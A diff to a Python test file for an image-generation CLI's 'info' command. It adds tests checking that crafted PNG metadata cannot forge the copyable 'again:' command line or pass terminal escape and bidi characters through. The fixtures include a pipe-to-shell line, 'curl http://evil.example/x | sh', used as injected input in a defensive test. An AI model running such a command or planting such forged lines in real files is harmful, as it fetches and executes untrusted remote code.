@@ -1,5 +1,8 @@
 """`sana info`: models on disk, models that are only known, and pictures."""
 
+import io
+import json
+import shlex
 import subprocess
 import sys
 from collections.abc import Callable
@@ -37,8 +40,6 @@ def test_picture(sana: Callable[..., Any], tiny_model: Path, tmp_path: Path) -> 
     assert "prompt: a fox" in text
     again = text.splitlines()[-1].removeprefix("again: sana ")
     assert again.startswith("generate 'a fox' --model ")
-    import shlex
-
     words = [str(tiny_model) if w == tiny_model.name else w for w in shlex.split(again)]
     assert sana(*words, "-o", tmp_path / "b.png", "--device", "cpu").code == 0
     assert (tmp_path / "b.png").read_bytes() == path.read_bytes()
@@ -47,8 +48,6 @@ def test_picture(sana: Callable[..., Any], tiny_model: Path, tmp_path: Path) -> 
 def test_prompt_that_looks_like_an_option(
     sana: Callable[..., Any], tiny_model: Path, tmp_path: Path
 ) -> None:
-    import shlex
-
     path = tmp_path / "a.png"
     options = ("-m", tiny_model, "-o", path, "--size", "64x64", "--steps", "1", "--seed", "9")
     assert sana("generate", *options, "--", "-5 degrees").code == 0
@@ -94,3 +93,65 @@ def test_needs_no_torch(tiny_model: Path) -> None:
     )
     done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True)
     assert done.returncode == 0, done.stderr
+
+
+def with_settings(path: Path, settings: dict[str, Any]) -> Path:
+    from PIL import Image
+    from PIL.PngImagePlugin import PngInfo
+
+    info = PngInfo()
+    info.add_itxt("sana", json.dumps(settings))
+    Image.new("RGB", (2, 2)).save(path, pnginfo=info)
+    return path
+
+
+FORGED = "a\nagain: curl http://evil.example/x | sh"
+
+
+@pytest.mark.parametrize(
+    "settings",
+    [
+        {"prompt": FORGED},
+        {"prompt": "a", "steps": "1\u2028again: sh"},
+        {"prompt": "a", FORGED: 1},
+        {"prompt": "a", "again": "curl http://evil.example/x | sh"},
+        {"prompt": "a", "nested": {"again": FORGED}},
+        {"prompt": "a", "loras": [FORGED]},
+        {"prompt": "a", "loras": 5},
+        {"prompt": "a", "model": "\x1b[2Kb\u202e"},
+    ],
+    ids=lambda s: str(list(s)[-1]),
+)
+def test_a_picture_forges_no_lines(
+    sana: Callable[..., Any], tmp_path: Path, settings: dict[str, Any]
+) -> None:
+    path = with_settings(tmp_path / "a.png", settings)
+    result = sana("info", path)
+    assert result.code == 0, result.err
+    lines = result.out.splitlines()
+    assert [line for line in lines if line.startswith("again:")] == lines[-1:]
+    assert lines[-1].startswith("again: sana generate ")
+    assert not any(c in result.out for c in ("\x1b", "\u202e", "\u2028"))
+    assert sana("info", path, "--json").document == settings
+
+
+def test_a_command_to_copy_has_the_whole_prompt(sana: Callable[..., Any], tmp_path: Path) -> None:
+    prompt = "\U0001f469\u200d\U0001f680 a\tcat\u3000on\u00a0" + "very " * 200 + "blue"
+    lines = sana("info", with_settings(tmp_path / "a.png", {"prompt": prompt})).out.splitlines()
+    assert shlex.split(lines[-1])[3] == prompt
+    assert len(lines[0]) < 250
+
+
+@pytest.mark.parametrize("encoding", ["cp1252", "gbk", "ascii", "utf-8"])
+def test_json_is_json_on_every_stdout(
+    encoding: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from sana_cli.cli import main
+
+    path = with_settings(tmp_path / "a.png", {"prompt": "café 🐱 狐"})
+    written = io.BytesIO()
+    stdout = io.TextIOWrapper(written, encoding=encoding, errors="backslashreplace")
+    monkeypatch.setattr(sys, "stdout", stdout)
+    assert main(["info", str(path), "--json"]) == 0
+    stdout.flush()
+    assert json.loads(written.getvalue().decode(encoding)) == {"prompt": "café 🐱 狐"}
